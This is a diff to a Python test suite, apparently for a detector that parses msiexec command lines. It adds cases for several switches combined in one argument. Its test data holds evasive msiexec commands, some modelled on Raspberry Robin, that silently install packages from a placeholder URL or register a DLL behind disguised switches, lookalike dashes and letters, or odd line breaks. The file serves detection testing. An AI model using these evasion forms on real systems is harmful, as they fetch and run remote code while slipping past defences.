@@ -32,15 +32,24 @@ DAV = "DavGetHTTPFromUNCPath"
 WINDOWS = "what Windows itself starts: the service's ImagePath, UninstallString, custom action servers"
 RUSTUP = "rust-lang/rustup, issues 33 and 89: error 1639"
 DEVON = "devonfw/IDEasy, issue 87: // is error 1639"
+ROBIN = "Raspberry Robin as published: msiexec /Q/I with an address in quotes right behind"
+ELASTIC = "elastic/protections-artifacts: the arguments -Q-I, /q-i, -q/i, /q/i of msiexec"
 OURS = "not documented; ours, marked unsure"
 
 DLL, CODE = r"C:\x.dll", "{1BCBF52C-CD1B-454D-AEF7-852F73967318}"
 REGISTER = {"action": "register", "operand": DLL}
+FETCH = {"action": "install", "actions": ["install"], "operand": "http://h.example:8080/a/B", "silent": True}
+COMBINED = "several switches in one argument"
 
 
 def hidden(how, **more):
     """A registration that is disguised, so that msiexec may not see it."""
     return {**REGISTER, "disguised": [how], "unsure": [how], **more}
+
+
+def combined(**more):
+    """What stands behind another switch of its argument: nobody has shown that msiexec reads it so, but for /i."""
+    return {"disguised": [COMBINED], "unsure": [COMBINED], **more}
 
 
 ROWS = [
@@ -104,11 +113,8 @@ ROWS = [
         {**REGISTER, "disguised": ["quoted switch", "foreign blank"], "unsure": ["quoted switch", "foreign blank"]},
     ),
     (OURS, "msiexec \xa0 /y \xa0 " + DLL, {**REGISTER, "unsure": ["foreign blank"]}),
-    (
-        ARGV,
-        "msiexec /y\n" + DLL,
-        {**REGISTER, "disguised": ["foreign blank", "glued operand"], "unsure": ["foreign blank", "glued operand"]},
-    ),
+    (ARGV, "msiexec /y\n" + DLL, {**REGISTER, "disguised": ["unusual blanks"]}),
+    (ARGV, "msiexec\r\n/y\r\n" + DLL + "\r\n", {**REGISTER, "disguised": ["unusual blanks"]}),
     (WINE, rf"msiexec /y{DLL}", hidden("glued operand")),
     (WINE, rf'msiexec /y"{DLL}"', hidden("glued operand")),
     (WINE, rf"msiexec /y:{DLL}", hidden("glued operand")),
@@ -238,6 +244,49 @@ ROWS = [
         {"action": "administrative install", "operand": r"C:\x.msi"},
     ),
     (ATOMIC, r'c:\windows\system32\msiexec.exe /q /j "C:\x.msi"', {"action": "advertise", "operand": r"C:\x.msi"}),
+    # -- several switches in one argument
+    (ROBIN, 'msiexec /Q/I"http://h.example:8080/a/B"', {**FETCH, "disguised": [COMBINED]}),
+    (ROBIN, 'MSIEXEC /q/I "http://h.example:8080/a/B"', {**FETCH, "disguised": [COMBINED]}),
+    (ROBIN, 'msiexec /Q/I"http://h.example:8080/a/B"/l*v', {**FETCH, "log": None, "disguised": [COMBINED]}),
+    *(
+        (ELASTIC, f"msiexec.exe {switches} http://h.example:8080/a/B", {**FETCH, "disguised": [COMBINED]})
+        for switches in ("-Q-I", "/q-i", "-q/i", "/q/i", "/i/q", "/qn/i", "/qb-!-i", "/quiet/package", "/norestart-q-i")
+    ),
+    *(
+        (OURS, line, combined(**REGISTER, silent=True))
+        for line in (
+            rf"msiexec /q/y {DLL}",
+            rf"msiexec -qn-y {DLL}",
+            rf"msiexec /y/q {DLL}",
+            rf"msiexec /Q/L*V/Y {DLL} l",
+        )
+    ),
+    (OURS, rf"msiexec /q/z {DLL}", combined(action="unregister", operand=DLL, silent=True)),
+    (OURS, f"msiexec /x{CODE}/qn", combined(action="uninstall", operand=CODE, silent=True)),
+    (OURS, "msiexec /q/p a.msp", combined(action="patch", operand="a.msp")),
+    (OURS, "msiexec /q/a x.msi", combined(action="administrative install", operand="x.msi")),
+    (OURS, "msiexec /q/jm x.msi", combined(action="advertise", operand="x.msi")),
+    (OURS, f"msiexec /q/fa {CODE}", combined(action="repair", operand=CODE)),
+    (OURS, "msiexec /t/i a.mst x.msi", {"operand": "a.mst", "transforms": ["x.msi"], "disguised": [COMBINED]}),
+    (OURS, rf"msiexec /k/y {DLL}", combined(**REGISTER, unsure=["unknown switch", COMBINED])),
+    (
+        OURS,
+        rf'msiexec /q/y"{DLL}"',
+        {**REGISTER, "disguised": [COMBINED, "glued operand"], "unsure": ["glued operand", COMBINED]},
+    ),
+    (
+        OURS,
+        rf'msiexec "/q/y" {DLL}',
+        {**REGISTER, "disguised": ["quoted switch", COMBINED], "unsure": ["quoted switch", COMBINED]},
+    ),
+    (OURS, rf"msiexec/q/y {DLL}", combined(**REGISTER, silent=True, unsure=[COMBINED, "where the program ends"])),
+    (
+        OURS,
+        'msiexec.exe/i"http://h.example:8080/a/B"',
+        {**FETCH, "silent": False, "unsure": ["where the program ends"]},
+    ),
+    (NAMING, "msiexec /yC:/q/x.dll", hidden("glued operand", operand="C:/q/x.dll")),
+    (NAMING, "msiexec /ihttp://h/q/i", {"action": "install", "operand": "http://h/q/i", "silent": False}),
     # -- the other actions
     (
         OPTIONS,
@@ -496,6 +545,7 @@ SHAPES = (
         "\0",
     ),
     *("/\u0301", '"a" ', 'a"', "/x{", "C:\\a ", "TRANSFORMS=a; ", "msiexec.exe", ".exe/"),
+    *("/q/y", "/y/q", '/i"a"', "/x{}", "/q-", "/l*", "/f/l", "/yC:/q", "msiexec/q", ".exe/q/", "/y/", "\r\n"),
 )
 
 
@@ -519,9 +569,10 @@ DEFINITE = ("action", "actions", "operand", "operands", "location", "remote", "t
 
 
 @st.composite
-def words(draw):
-    """Arguments of msiexec, those of an action among others."""
-    action = [draw(st.sampled_from("/-")) + draw(ACTIONS), draw(OPERANDS)]
+def words(draw, others=2):
+    """Arguments of msiexec, those of an action among others; at most so many `others` stand in one with its switch."""
+    before = "".join(draw(st.lists(st.sampled_from(["/q", "-qn", "/QB-", "/quiet", "-norestart"]), max_size=others)))
+    action = [before + draw(st.sampled_from("/-")) + draw(ACTIONS), draw(OPERANDS)]
     before, after = (draw(st.lists(OTHERS, max_size=2)) for _ in range(2))
     return [word for group in (*before, action, *after) for word in group]
 
@@ -558,7 +609,7 @@ def test_the_case_of_switches_changes_nothing(found, data):
 
 
 @settings(max_examples=count(200, 5_000))
-@given(words(), st.data())
+@given(words(others=0), st.data())
 def test_no_dash_and_no_letter_that_looks_like_it_hides_an_action(found, data):
     dashes = str.maketrans({"/": data.draw(st.sampled_from("/-–—―−∕／"))})
     letters = str.maketrans("yziapx", data.draw(st.sampled_from(["yziapx", "ʸᶻⁱᵃᵖˣ", "ｙｚｉａｐｘ", "YZIAPX"])))
@@ -579,6 +630,6 @@ def test_blanks_and_case_change_no_action_in_any_text(number):
 @settings(max_examples=count(300, 10_000))
 @given(st.integers(0, 2**32), st.integers(0, 11))
 def test_quoting_changes_no_action_in_any_text(number, which):
-    words = re.split("[ \t]+", any_text(Random(number)).replace('"', "").strip(" \t"))
+    words = re.split("[ \t\r\n]+", any_text(Random(number)).replace('"', "").strip(" \t\r\n"))
     quoted = [f'"{word}"' if at == which else word for at, word in enumerate(words)]
     same_answer(" ".join(["msiexec.exe", *words]), " ".join(["msiexec.exe", *quoted]), ("action", "actions"))
